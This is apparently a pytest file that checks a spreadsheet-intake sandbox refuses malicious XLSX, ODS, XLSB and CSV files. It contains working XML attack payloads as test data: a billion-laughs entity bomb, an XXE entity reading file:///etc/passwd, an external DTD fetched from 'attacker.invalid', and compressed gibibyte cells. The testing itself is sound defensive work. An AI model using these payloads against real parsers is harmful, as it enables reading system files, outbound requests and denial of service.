"""Bad inputs 21 to 35 of the security page: XML and grids."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from factories.files import (
    DECLARATION,
    MAIN,
    ORDINARY,
    SHEET,
    deflated_repeats,
    deflated_zeros,
    number_cell,
    ods_row,
    ods_table,
    ods_text,
    raw_workbook,
    row,
    shared_texts,
    text_cell,
    workbook_parts,
    worksheet,
    write_ods,
    write_xlsb,
    write_xlsx,
    write_zip,
)
from maillon.core.errors import RefusedFile
from maillon.intake.sandbox import read_sheets

Refusal = Callable[[Path], RefusedFile]

LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "haha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
DOCUMENT_TYPES = {
    "21 billion laughs": (LAUGHS, "&i;"),
    "22 quadratic entity": (f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 50_000),
    "23 file": ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
    "24 network": ('<!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">', "x"),
}


@pytest.mark.parametrize("case", DOCUMENT_TYPES)
@pytest.mark.parametrize("part", [SHEET, "xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml"])
def test_21_to_24_document_types(case: str, part: str, tmp_path: Path, refusal: Refusal) -> None:
    declared, used = DOCUMENT_TYPES[case]
    parts = workbook_parts(
        {"Feuil1": worksheet(ORDINARY)},
        shared=shared_texts(["a"]),
        styles=f'{DECLARATION}<styleSheet xmlns="{MAIN}"></styleSheet>',
    )
    content = str(parts[part]).replace(DECLARATION, DECLARATION + declared)
    parts[part] = content.replace("Vis", used) if "Vis" in content else content
    error = refusal(write_zip(tmp_path / "a.xlsx", parts))
    expected = "the XML declares a document type (entities), which no spreadsheet needs."
    assert str(error.what) == f"{part}: {expected}"


def test_21_in_an_open_document(tmp_path: Path, refusal: Refusal) -> None:
    path = write_ods(tmp_path / "a.ods", ods_table("T", ods_row(ods_text("x"))))
    import zipfile

    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["content.xml"] = parts["content.xml"].replace(DECLARATION.encode(), (DECLARATION + LAUGHS).encode())
    error = refusal(write_zip(tmp_path / "b.ods", parts))
    assert str(error.what).startswith("content.xml: the XML declares a document type")


def test_25_far_corner_cell(tmp_path: Path, refusal: Refusal) -> None:
    cells = row(1, number_cell("A1", 1)) + row(1048576, number_cell("XFD1048576", 1))
    error = refusal(write_xlsx(tmp_path / "a.xlsx", {"Pièces": worksheet(cells)}))
    assert str(error.what).startswith(
        "Sheet Pièces, cell XFD1048576: this cell stands so far from the others"
    )


def test_25_far_corner_in_unusual_xml(tmp_path: Path, refusal: Refusal) -> None:
    cells = (
        "<row r='1'><c  r='A1' ><v>1</v></c></row><row r='1048576'><c s='0' r='XFD1048576'><v>1</v></c></row>"
    )
    error = refusal(write_xlsx(tmp_path / "a.xlsx", {"Pièces": worksheet(cells)}))
    assert "Sheet Pièces, cell XFD1048576" in str(error.what)


def test_25_in_a_binary_workbook(tmp_path: Path, refusal: Refusal) -> None:
    path = write_xlsb(tmp_path / "a.xlsb", [(0, [(0, 1.0)]), (1048575, [(16383, 1.0)])], "Pièces")
    assert "Sheet Pièces, cell XFD1048576" in str(refusal(path).what)


def test_26_merge_of_everything(tmp_path: Path, refusal: Refusal) -> None:
    merged = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    error = refusal(write_xlsx(tmp_path / "a.xlsx", worksheet(ORDINARY, after=merged)))
    assert str(error.what) == (
        "Sheet Feuil1, cells A1:XFD1048576: merged ranges cover more than 1000000 cells."
    )


def test_26_many_merges_together(tmp_path: Path, refusal: Refusal) -> None:
    merged = "".join(f'<mergeCell ref="A{10 * n + 1}:XFD{10 * n + 8}"/>' for n in range(8))
    error = refusal(
        write_xlsx(tmp_path / "a.xlsx", worksheet(ORDINARY, after=f"<mergeCells>{merged}</mergeCells>"))
    )
    assert "cells A71:XFD78" in str(error.what)


def test_27_lying_dimension_is_harmless(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "a.xlsx", worksheet(ORDINARY, before='<dimension ref="A1:XFD1048576"/>'))
    _, sheets, doubts = read_sheets(path)
    assert sheets[0].rows == [["Désignation", "Qté"], ["Vis", 4]]
    assert doubts == []


@pytest.mark.parametrize(
    "reference", ["ZZZZZZ99999999999", "XFE1", "A1048577", "A0", "1A", "$", "A1:B2", "AAAA1", "ÀA1"]
)
def test_28_reference_outside_the_grid(reference: str, tmp_path: Path, refusal: Refusal) -> None:
    cells = ORDINARY + row(3, number_cell(reference, 1))
    error = refusal(write_xlsx(tmp_path / "a.xlsx", worksheet(cells)))
    assert str(error.what) == (
        f"Sheet Feuil1, cell {reference}: this reference lies outside the largest possible sheet."
    )


def test_29_shared_text_out_of_range(tmp_path: Path, refusal: Refusal) -> None:
    cells = row(1, '<c r="A1" t="s"><v>0</v></c>', '<c r="B1" t="s"><v>7</v></c>')
    path = write_xlsx(tmp_path / "a.xlsx", worksheet(cells), shared=shared_texts(["a"]))
    assert str(refusal(path).what).startswith("Sheet Feuil1, cell B1: the cell holds text 7")


def test_29_shared_text_without_any(tmp_path: Path, refusal: Refusal) -> None:
    path = write_xlsx(tmp_path / "a.xlsx", worksheet(row(1, '<c r="C1" t="s"><v>0</v></c>')))
    assert "Sheet Feuil1, cell C1" in str(refusal(path).what)


def test_30_four_billion_shared_texts_announced(tmp_path: Path, refusal: Refusal) -> None:
    shared = shared_texts(["a"], announced=4_000_000_000)
    error = refusal(write_xlsx(tmp_path / "a.xlsx", worksheet(ORDINARY), shared=shared))
    assert "4000000000 shared texts are announced" in str(error.what)


def test_31_one_cell_of_a_gibibyte(tmp_path: Path, refusal: Refusal) -> None:
    start = worksheet("").partition("</sheetData>")[0] + '<row r="1"><c r="B1" t="inlineStr"><is><t>'
    packed = deflated_zeros(1024, (start.encode(), b"</t></is></c></row></sheetData></worksheet>"), b"x")
    archive = raw_workbook()
    archive.add("xl/worksheets/sheet2.xml", b"", deflated=packed, declared=(1 << 30) + 300)
    error = refusal(archive.write(tmp_path / "a.xlsx"))
    assert str(error.what).endswith("cell B1: the text is longer than 32767 characters.")


def test_31_long_shared_text_names_the_cell_that_uses_it(tmp_path: Path, refusal: Refusal) -> None:
    shared = shared_texts(["court", "x" * 40_000, "court"])
    cells = row(1, '<c r="A1" t="s"><v>2</v></c>') + row(2, '<c r="D2" t="s"><v>1</v></c>')
    error = refusal(write_xlsx(tmp_path / "a.xlsx", worksheet(cells), shared=shared))
    assert str(error.what) == "Sheet Feuil1, cell D2: the text is longer than 32767 characters."


def test_31_longest_allowed_text_is_read(tmp_path: Path) -> None:
    text = "é" * 32_767
    _, sheets, _ = read_sheets(write_xlsx(tmp_path / "a.xlsx", worksheet(row(1, text_cell("A1", text)))))
    assert sheets[0].rows == [[text]]


def test_31_rows_without_end(tmp_path: Path, refusal: Refusal) -> None:
    """Rows without end, 400 MiB of XML: the number of cells stops them early."""
    block = "".join(row(n, number_cell(f"A{n}", n * 7919 % 1000)) for n in range(1, 30_000)).encode()
    start, _, end = worksheet("|").partition("|")
    packed, size = deflated_repeats(block, (400 << 20) // len(block), (start.encode(), end.encode()))
    archive = raw_workbook()
    archive.add("xl/worksheets/sheet2.xml", b"", deflated=packed, declared=size)
    error = refusal(archive.write(tmp_path / "a.xlsx"))
    assert "more than 3000000 cells are filled up to here" in str(error.what)


def test_32_repeated_open_document_cells(tmp_path: Path, refusal: Refusal) -> None:
    cells = ods_row(
        ods_text("x", 'table:number-columns-repeated="16384"'),
        attributes='table:number-rows-repeated="1048576"',
    )
    error = refusal(write_ods(tmp_path / "a.ods", ods_table("Pièces", cells)))
    assert "Sheet Pièces, cell XFD1048576: this cell stands so far" in str(error.what)


def test_32_blank_rest_of_an_open_document_is_usual(tmp_path: Path) -> None:
    blank = '<table:table-cell table:number-columns-repeated="16382"/>'
    rest = ods_row(
        '<table:table-cell table:number-columns-repeated="16384"/>',
        attributes='table:number-rows-repeated="1048574"',
    )
    rows = ods_row(ods_text("Réf"), ods_text("Qté"), blank) + ods_row(ods_text("A"), blank) + rest
    _, sheets, doubts = read_sheets(write_ods(tmp_path / "a.ods", ods_table("T", rows)))
    assert sheets[0].rows == [["Réf", "Qté"], ["A"]]
    assert doubts == []


def test_33_a_million_columns(tmp_path: Path, refusal: Refusal) -> None:
    path = tmp_path / "a.csv"
    path.write_text("a;b\n" + ";".join("x" * 1_000_000) + "\n")
    assert str(refusal(path).what) == "Line 2: more than 16384 columns."


def test_34_workbook_of_charts_only(tmp_path: Path, refusal: Refusal) -> None:
    parts = workbook_parts({"Graphique": worksheet("")})
    chart = f'{DECLARATION}<chartsheet xmlns="{MAIN}"/>'
    parts["xl/chartsheets/sheet1.xml"] = chart
    del parts[SHEET]
    relations = str(parts["xl/_rels/workbook.xml.rels"])
    parts["xl/_rels/workbook.xml.rels"] = relations.replace(
        "relationships/worksheet", "relationships/chartsheet"
    ).replace("worksheets/sheet1.xml", "chartsheets/sheet1.xml")
    error = refusal(write_zip(tmp_path / "a.xlsx", parts))
    assert str(error.what) == "No sheet of this file holds any cell."


def test_34_empty_workbook(tmp_path: Path, refusal: Refusal) -> None:
    error = refusal(write_xlsx(tmp_path / "a.xlsx", {"Feuil1": worksheet(""), "Feuil2": worksheet("")}))
    assert str(error.what) == "No sheet of this file holds any cell."


def test_34_empty_open_document(tmp_path: Path, refusal: Refusal) -> None:
    error = refusal(write_ods(tmp_path / "a.ods", ods_table("T", "")))
    assert str(error.what) == "No sheet of this file holds any cell."


def test_35_hidden_sheet_rows_and_columns(tmp_path: Path) -> None:
    columns = '<cols><col min="2" max="3" width="9" hidden="1"/></cols>'
    cells = row(1, number_cell("A1", 1)) + '<row r="2" hidden="1"><c r="A2"><v>2</v></c></row>'
    path = write_xlsx(
        tmp_path / "a.xlsx",
        {"Visible": worksheet(cells, before=columns), "Cachée": worksheet(ORDINARY)},
        states={"Cachée": "veryHidden"},
    )
    _, sheets, doubts = read_sheets(path)
    assert [(s.name, s.hidden, len(s.rows)) for s in sheets] == [("Visible", False, 2), ("Cachée", True, 2)]
    assert sheets[0].hidden_rows == {1}
    assert sheets[0].hidden_columns == {1, 2}
    assert [(d.code, d.sheet, d.cell) for d in doubts] == [
        ("hidden-rows", "Visible", "2:2"),
        ("hidden-columns", "Visible", "B:B"),
        ("hidden-sheet", "Cachée", ""),
    ]
